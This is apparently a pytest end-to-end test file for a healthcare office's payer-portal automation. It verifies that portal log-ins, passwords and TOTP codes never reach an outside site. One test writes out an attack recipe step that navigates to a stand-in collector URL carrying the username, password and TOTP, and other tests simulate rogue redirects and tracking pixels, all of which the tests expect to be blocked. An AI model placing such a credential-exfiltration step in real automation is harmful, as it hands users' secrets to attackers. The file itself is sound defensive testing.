"""The portal log-in never leaves the payer's origin (issue 10 #1), end to end: real
Chromium against the sandbox portal, a second local server standing in for the outside
site that must never hear from the browser."""

from __future__ import annotations

import dataclasses
import io
import json
import threading
from collections.abc import Iterator
from datetime import date, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from app.identity import Session, init_vault
from app.services import patients
from app.services import portal_credentials as pc
from app.services import users
from automations.portal import (
    OffSiteRefused,
    PortalEngine,
    PortalQuery,
    builtin_recipes_dir,
    load_recipe_file,
)
from automations.portal.recipes import Step
from automations.sandbox_portal import SANDBOX_ACCOUNTS, PaSeedRecord, SandboxPortal, build_seed
from ui.cli import main

pytestmark = [pytest.mark.e2e]
PASSWORD = "owner-password-1"
PAYER = "Northwind National Health"
NORTHWIND = builtin_recipes_dir() / "northwind.yaml"
LOGIN_END = '  - expect: "#nw-signout"\n'
CASE = ("NWORIGIN01", "NW-ORIG-1")


class Collector:
    """The outside site: records every request that reaches it."""

    def __init__(self) -> None:
        hits: list[str] = []
        self.hits = hits

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

            def do_GET(self) -> None:  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def sandbox() -> Iterator[SandboxPortal]:
    seed = build_seed([PaSeedRecord(*CASE, "northwind", date.today() - timedelta(days=7),
                                    "approved")])
    with SandboxPortal(seed) as portal:
        yield portal


@pytest.fixture(scope="module")
def collector() -> Iterator[Collector]:
    c = Collector()
    yield c
    c.server.shutdown()
    c.server.server_close()


@pytest.fixture(scope="module")
def engine() -> Iterator[PortalEngine]:
    with PortalEngine(min_interval_seconds=0, attempts=2, backoff_seconds=0.05,
                      timeout_seconds=10, selector_timeout_seconds=1.5) as shared:
        yield shared


@pytest.fixture
def vault(tmp_path: Path, sandbox: SandboxPortal, collector: Collector,
          monkeypatch: pytest.MonkeyPatch) -> Iterator[Session]:
    sandbox.reset()
    collector.hits.clear()
    directory = tmp_path / "vault"
    session, _ = init_vault(directory, "Origin Practice", "owner", PASSWORD)
    users.add_user(session, "frida", "frida-pass-1", ["front_desk"])
    users.add_user(session, "meg", "meg-pass-12", ["office_manager"])
    payer = patients.add_payer(session, PAYER, "commercial", portal_recipe="northwind",
                               portal_enabled=True)
    acct = SANDBOX_ACCOUNTS["northwind"]
    pc.set_credentials(session, payer.id, url=sandbox.portal_url("northwind"),
                       username=acct["username"], password=acct["password"],
                       totp_seed=acct["totp_seed"])
    monkeypatch.setenv("OFFHOLD_VAULT", str(directory))
    yield session
    session.vault.close()


def cli(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, user: str,
        password: str, *argv: str) -> tuple[int, str, str]:
    monkeypatch.setenv("OFFHOLD_USER", user)
    monkeypatch.setenv("OFFHOLD_PASSWORD", password)
    code = main(list(argv), stdin=io.StringIO(""))
    out, err = capsys.readouterr()
    return code, out, err


def audit_rows(session: Session, action: str) -> list[tuple[str, dict[str, Any]]]:
    return [(str(r[0]), json.loads(r[1])) for r in session.vault.query(
        "SELECT actor, details FROM audit_log WHERE action = ? ORDER BY id", (action,))]


def blocked_rows(session: Session) -> dict[str, dict[str, Any]]:
    """portal.request_blocked rows by host (Chromium's own background calls to Google are
    refused and audited too, so other hosts may appear)."""
    return {d["host"]: d for _a, d in audit_rows(session, "portal.request_blocked")}


def recipe_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "recipes" / "northwind.yaml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(text, "utf-8")
    return path


def test_the_probe_attack_fails_at_load_and_the_collector_hears_nothing(
        vault: Session, collector: Collector, tmp_path: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    text = NORTHWIND.read_text("utf-8")
    attack = recipe_file(tmp_path, text.replace(LOGIN_END, LOGIN_END + f'  - goto: '
                                                f'"{collector.url}c?u={{username}}&p='
                                                '{password}&t={totp}"\n'))
    for user, password in (("frida", "frida-pass-1"), ("owner", PASSWORD)):
        code, out, err = cli(capsys, monkeypatch, user, password, "recipe", "test",
                             str(attack), "--payer", PAYER, "--member-id", CASE[0],
                             "--reference", CASE[1])
        assert code == 1
        assert "login[7].goto" in err and "{username}" in err and "fill" in err
        assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert collector.hits == []


def test_front_desk_tests_only_the_installed_recipe(
        vault: Session, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    code, out, err = cli(capsys, monkeypatch, "frida", "frida-pass-1", "recipe", "test",
                         str(NORTHWIND), "--member-id", CASE[0], "--reference", CASE[1])
    assert code == 0, err + out
    assert "status: approved" in out
    edited = recipe_file(tmp_path, NORTHWIND.read_text("utf-8").replace("version: 1",
                                                                        "version: 2"))
    code, out, err = cli(capsys, monkeypatch, "frida", "frida-pass-1", "recipe", "test",
                         str(edited), "--member-id", CASE[0], "--reference", CASE[1])
    assert code == 1 and "may not portal.configure" in err
    [(actor, details)] = audit_rows(vault, "permission.denied")
    assert actor == "frida" and details["attempted"] == "portal.configure"
    code, out, err = cli(capsys, monkeypatch, "meg", "meg-pass-12", "recipe", "test",
                         str(edited), "--member-id", CASE[0], "--reference", CASE[1])
    assert code == 0, err + out
    visits = audit_rows(vault, "portal.visit")
    assert [v["outcome"] for _a, v in visits] == ["ok", "ok"]
    hosts = visits[0][1]["hosts"]
    assert len(hosts) == 1 and hosts[0].startswith("127.0.0.1:")
    # Nothing was refused: Chromium's own background calls (it preconnected to
    # www.google.com when our --disable-features replaced Playwright's) are off.
    assert [v["blocked_hosts"] for _a, v in visits] == [[], []]


def test_a_recipe_for_another_site_never_gets_the_log_in(
        vault: Session, collector: Collector, tmp_path: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    other = recipe_file(tmp_path, NORTHWIND.read_text("utf-8").replace(
        "url: http://127.0.0.1:8765/northwind/", "url: http://localhost:8765/northwind/"))
    code, out, err = cli(capsys, monkeypatch, "meg", "meg-pass-12", "recipe", "test",
                         str(other), "--member-id", CASE[0], "--reference", CASE[1])
    assert code == 1 and "FAILED (OffSiteRefused)" in out and "localhost:8765" in out
    [(_actor, visit)] = audit_rows(vault, "portal.visit")
    assert visit["outcome"] == "off_site_blocked"


def test_a_navigation_off_the_origin_is_blocked_and_audited(
        vault: Session, engine: PortalEngine, collector: Collector) -> None:
    """Load-time checks bypassed on purpose: the browser's fence holds on its own."""
    good = load_recipe_file(NORTHWIND)
    rogue = dataclasses.replace(good, login=good.login + (
        Step("goto", value=f"{collector.url}after-login", where="login[7].goto"),))
    with pytest.raises(OffSiteRefused, match="another site"):
        engine.check(vault, PAYER, "pa_status", PortalQuery(*CASE), recipe=rogue)
    assert collector.hits == []
    [(_a, visit)] = audit_rows(vault, "portal.visit")
    assert visit["outcome"] == "off_site_blocked"
    assert collector.host in visit["blocked_hosts"]
    assert any(h.startswith("127.0.0.1:") and h != collector.host for h in visit["hosts"])
    blocked = blocked_rows(vault)[collector.host]
    assert blocked["navigation"] is True and blocked["allowed_origin"].startswith("http://")


def test_a_secret_outside_a_field_is_refused_in_the_browser_too(
        vault: Session, engine: PortalEngine, collector: Collector) -> None:
    good = load_recipe_file(NORTHWIND)
    rogue = dataclasses.replace(good, login=(
        Step("goto", value="signin?p={password}", where="login[0].goto"),) + good.login)
    with pytest.raises(OffSiteRefused, match="only be typed into a field"):
        engine.check(vault, PAYER, "pa_status", PortalQuery(*CASE), recipe=rogue)
    assert collector.hits == []


def test_a_redirect_off_the_site_after_sign_in_is_blocked(
        vault: Session, engine: PortalEngine, sandbox: SandboxPortal,
        collector: Collector) -> None:
    """Playwright's routing never sees redirects; the fence's proxy does."""
    sandbox.set_fault("offsite_redirect", portal="northwind", target=collector.url)
    with pytest.raises(OffSiteRefused, match=collector.host):
        engine.check(vault, PAYER, "pa_status", PortalQuery(*CASE))
    assert collector.hits == []
    [(_a, visit)] = audit_rows(vault, "portal.visit")
    assert visit["outcome"] == "off_site_blocked" and collector.host in visit["blocked_hosts"]
    assert collector.host in blocked_rows(vault)


def test_an_outside_image_is_blocked_and_the_check_still_reads_the_status(
        vault: Session, engine: PortalEngine, sandbox: SandboxPortal,
        collector: Collector) -> None:
    sandbox.set_fault("offsite_pixel", portal="northwind", target=collector.url)
    result = engine.check(vault, PAYER, "pa_status", PortalQuery(*CASE))
    assert result.found and result.status == "approved"
    assert collector.hits == []
    [(_a, visit)] = audit_rows(vault, "portal.visit")
    assert visit["outcome"] == "ok" and collector.host in visit["blocked_hosts"]
    blocked = blocked_rows(vault)[collector.host]
    assert blocked["requests"] >= 3  # one per page: sign-in, code, search, results
    assert blocked["navigation"] is False
